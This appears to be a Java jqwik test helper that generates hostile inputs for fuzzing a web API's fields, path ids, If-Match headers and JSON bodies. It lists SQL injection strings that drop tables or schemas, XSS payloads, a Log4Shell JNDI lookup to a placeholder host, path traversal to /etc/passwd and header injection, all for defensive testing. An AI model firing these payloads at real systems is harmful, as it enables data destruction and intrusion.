package com.segmint;

import com.segmint.HostileCase.Document;
import com.segmint.HostileCase.Mutation;
import com.segmint.Json.Raw;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;
import org.springframework.http.HttpMethod;

/** Hostile values for fields, paths, headers and whole bodies; each knows if it is a defect. */
final class HostileValues {

  static final List<String> SQL_ISH =
      List.of(
          "'; DROP TABLE segmint.content; --",
          "' OR '1'='1",
          "1; SELECT pg_sleep(5)",
          "$$; DROP SCHEMA segmint CASCADE; $$",
          "%' AND 1=1 --",
          "\\'; --",
          "Robert'); DELETE FROM segmint.users; --");
  static final List<String> SCRIPT_ISH =
      List.of(
          "<script>alert(1)</script>",
          "\"><img src=x onerror=alert(1)>",
          "javascript:alert(1)",
          "${jndi:ldap://evil.example/a}",
          "{{7*7}}",
          "../../../../etc/passwd",
          "%s%s%s%n",
          "\r\nSet-Cookie: a=b");
  static final List<String> UNICODE_ODDITIES =
      List.of(
          "\u202Eevil\u202C",
          "\u200F\u05E9\u05DC\u05D5\u05DD",
          "\uD83D\uDE00\uD83D\uDE80",
          "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67",
          "e\u0301\u0301\u0301",
          "\uFEFFbom",
          "\u200B",
          "\uFF46\uFF55\uFF4C\uFF4C",
          "Zalgo\u0336\u0337\u0338");
  static final List<String> NUL_TEXTS = List.of("\u0000", "a\u0000b", "title\u0000");

  /** Uploads that look like media by name or by a few bytes; only the last two are supported. */
  static final List<byte[]> UPLOAD_LOOKALIKES =
      List.of(
          new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'},
          "RIFF\u0000\u0000\u0000\u0000WAVEfmt ".getBytes(StandardCharsets.ISO_8859_1),
          "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
              .getBytes(StandardCharsets.UTF_8),
          "%PDF-1.4 not a picture".getBytes(StandardCharsets.ISO_8859_1),
          new byte[] {'P', 'K', 3, 4, 0, 0, 0, 0, 0, 0, 0, 0},
          new byte[] {0x7F, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0},
          new byte[0],
          "GIF89a\u0001\u0000\u0001\u0000\u0000\u0000".getBytes(StandardCharsets.ISO_8859_1),
          "\u0000\u0000\u0000\u0018ftypisom".getBytes(StandardCharsets.ISO_8859_1));

  private HostileValues() {}

  /** Odd text that is still text: may be valid, stored verbatim. */
  static Arbitrary<String> oddText() {
    return Arbitraries.oneOf(
        Arbitraries.of(SQL_ISH),
        Arbitraries.of(SCRIPT_ISH),
        Arbitraries.of(UNICODE_ODDITIES),
        Arbitraries.strings().withCharRange('\u0021', '\uD7FF').ofMinLength(1).ofMaxLength(30));
  }

  /** A required text field of at most {@code max} characters. */
  static Arbitrary<Mutation> text(String field, int max) {
    return Arbitraries.oneOf(
        defect(field, "null", null),
        defect(field, "absent", Mutation.ABSENT),
        defect(field, "empty", ""),
        defect(field, "blank", " \t\u3000 "),
        Arbitraries.of(NUL_TEXTS).map(nul -> new Mutation(field, nul, true, "nul")),
        Arbitraries.integers()
            .between(max + 1, max + 3_000)
            .map(length -> new Mutation(field, "x".repeat(length), true, "too-long")),
        defect(field, "emoji-too-long", "\uD83D\uDE00".repeat(max / 2 + 1)),
        defect(field, "object", Map.of("a", 1)),
        defect(field, "array", List.of("a", "b")),
        defect(field, "deep", new Raw("[".repeat(2_000) + "]".repeat(2_000))),
        plausible(field, "number", 42),
        plausible(field, "boolean", true),
        oddText()
            .filter(text -> text.length() <= max)
            .map(text -> new Mutation(field, text, false, "odd")));
  }

  /** A secret that is stored encrypted: any character, NUL too, is fine. */
  static Arbitrary<Mutation> secret(String field, int max, boolean required) {
    Arbitrary<Mutation> mutations = required ? text(field, max) : optionalText(field, max);
    return mutations.map(
        mutation ->
            mutation.kind().equals("nul")
                ? new Mutation(field, mutation.value(), false, "nul")
                : mutation);
  }

  /** An optional text field of at most {@code max} characters: missing or empty is fine. */
  static Arbitrary<Mutation> optionalText(String field, int max) {
    return text(field, max)
        .map(
            mutation ->
                List.of("null", "absent", "empty", "blank").contains(mutation.kind())
                    ? new Mutation(field, mutation.value(), false, mutation.kind())
                    : mutation);
  }

  /** A required positive id that must name a row the caller may use. */
  static Arbitrary<Mutation> id(String field) {
    return Arbitraries.oneOf(
        defect(field, "null", null),
        defect(field, "absent", Mutation.ABSENT),
        Arbitraries.of(0, -1, Integer.MIN_VALUE, Integer.MAX_VALUE)
            .map(id -> new Mutation(field, id, true, "id " + id)),
        Arbitraries.of("2147483648", "-2147483649", "1e400", "99999999999999999999999", "NaN")
            .map(raw -> new Mutation(field, new Raw(raw), true, "number " + raw)),
        Arbitraries.of("abc", "", "1; DROP TABLE segmint.content")
            .map(text -> new Mutation(field, text, true, "text id")),
        // Jackson reads a numeric string, in any script's digits ("\u0661" is 1), as the number
        Arbitraries.of("12", "\u0661").map(text -> new Mutation(field, text, false, "digits")),
        defect(field, "object", Map.of("id", 1)),
        defect(field, "array", List.of(1)));
  }

  /** A required value of a closed set, e.g. an enum. */
  static Arbitrary<Mutation> oneOf(String field, String valid) {
    return Arbitraries.oneOf(
        defect(field, "null", null),
        defect(field, "absent", Mutation.ABSENT),
        Arbitraries.of("", "unknown", "MySpace", valid + "'--")
            .map(value -> new Mutation(field, value, true, "unknown " + value)),
        defect(field, "object", Map.of()),
        // Jackson trims enum names (String.trim drops NUL too) and takes an index for a number
        Arbitraries.of(
                valid.toUpperCase(), valid.toLowerCase(), " " + valid, valid + "\u0000", 0, 1, 99)
            .map(value -> new Mutation(field, value, false, "near " + value)));
  }

  /** An ISO-8601 time with offset that must lie in the future. */
  static Arbitrary<Mutation> futureTime(String field) {
    return Arbitraries.oneOf(
        defect(field, "null", null),
        defect(field, "absent", Mutation.ABSENT),
        Arbitraries.of(
                "yesterday",
                "",
                "2026-13-45T00:00:00Z",
                "2000-01-01T00:00:00Z",
                "2999-01-01T00:00:00",
                "2999-01-01",
                "+999999999-12-31T23:59:59Z",
                "2999-01-01T00:00:00+25:00",
                "2999-01-01T00:00:00Z\u0000")
            .map(time -> new Mutation(field, time, true, "time " + time)),
        defect(field, "object", Map.of("year", 2999)),
        Arbitraries.of(4_102_444_800L, "2999-01-01T00:00:00.123456789+14:00")
            .map(time -> new Mutation(field, time, false, "odd time " + time)));
  }

  /** A whole body that is no JSON document of the right shape or type. */
  static Arbitrary<Document> brokenDocument(String validJson) {
    Arbitrary<Document> truncated =
        Arbitraries.integers()
            .between(1, validJson.length() - 1)
            .map(end -> json(validJson.substring(0, end), "truncated at " + end));
    Arbitrary<Document> garbage =
        Arbitraries.of(
                "",
                "{",
                "}",
                "null",
                "[]",
                "\"text\"",
                "42",
                "{\"a\":}",
                "{'title': 'x'}",
                validJson.replaceFirst("}$", ",}"),
                "/* comment */" + validJson,
                "[".repeat(5_000) + "]".repeat(5_000),
                "{\"a\":".repeat(3_000) + "1" + "}".repeat(3_000),
                "\u0000" + validJson)
            .map(body -> json(body, "garbage"));
    Arbitrary<Document> wrongType =
        Arbitraries.of("text/plain", "application/xml", "application/x-www-form-urlencoded", "")
            .map(type -> new Document(type, validJson, "content type " + type));
    return Arbitraries.frequencyOf(
        Tuple.of(2, truncated), Tuple.of(3, garbage), Tuple.of(2, wrongType));
  }

  /** A path id that names no row the caller may touch, or no id at all. */
  static Arbitrary<String> foreignPathId(int someoneElsesId) {
    return Arbitraries.of(
        "-1",
        "0",
        "2147483647",
        "2147483648",
        "99999999999999999999",
        "abc",
        "1.5",
        "1e3",
        "%20",
        "%00",
        "%D9%A9%D9%A9%D9%A9%D9%A9%D9%A9%D9%A9%D9%A9",
        "2147483647;DROP%20TABLE%20x",
        "%27%20OR%20%271%27=%271",
        String.valueOf(someoneElsesId));
  }

  /** An If-Match that names no current version (or none at all). */
  static Arbitrary<String> badIfMatch() {
    return Arbitraries.of(
            "",
            "*",
            "v1",
            "W/\"v1\"",
            "\"v\"",
            "\"v-1\"",
            "\"v2147483647\"",
            "\"v99999999999\"",
            "\"v1\", \"v2\"",
            "\"vabc\"",
            "\"v\u0661\"",
            "\"v+1\"",
            "\"v01\"",
            "\"v 1\"")
        .injectNull(0.15);
  }

  /** A body from a valid one: 1 to 3 fields mutated, or (one time in five) a broken document. */
  static Arbitrary<HostileCase> bodies(
      HttpMethod method, String path, Map<String, Object> valid, List<Arbitrary<Mutation>> fields) {
    Arbitrary<HostileCase> mutated =
        Arbitraries.oneOf(fields)
            .list()
            .ofMinSize(1)
            .ofMaxSize(3)
            .map(mutations -> HostileCase.of(method, path, valid, mutations));
    Arbitrary<HostileCase> broken =
        brokenDocument(Json.write(valid)).map(doc -> HostileCase.document(method, path, doc));
    return Arbitraries.frequencyOf(Tuple.of(4, mutated), Tuple.of(1, broken));
  }

  /**
   * As {@link #bodies}, for an endpoint whose every field is optional: no body at all, or a JSON
   * {@code null}, is then a valid request for the defaults.
   */
  static Arbitrary<HostileCase> optionalBodies(
      HttpMethod method, String path, Map<String, Object> valid, List<Arbitrary<Mutation>> fields) {
    return bodies(method, path, valid, fields)
        .map(
            hostile ->
                HostileCase.JSON.equals(hostile.contentType())
                        && List.of("", "null").contains(hostile.body())
                    ? hostile.asValid("no body: the defaults")
                    : hostile);
  }

  static Arbitrary<HostileCase> withBadIfMatch(Arbitrary<HostileCase> cases) {
    return Combinators.combine(cases, badIfMatch())
        .as((hostile, tag) -> hostile.withIfMatch(tag, true));
  }

  static <T> List<T> concat(List<T> first, List<T> second) {
    List<T> all = new ArrayList<>(first);
    all.addAll(second);
    return all;
  }

  private static Arbitrary<Mutation> defect(String field, String kind, Object value) {
    return Arbitraries.just(new Mutation(field, value, true, kind));
  }

  private static Arbitrary<Mutation> plausible(String field, String kind, Object value) {
    return Arbitraries.just(new Mutation(field, value, false, kind));
  }

  private static Document json(String body, String kind) {
    return new Document("application/json", body, kind);
  }
}
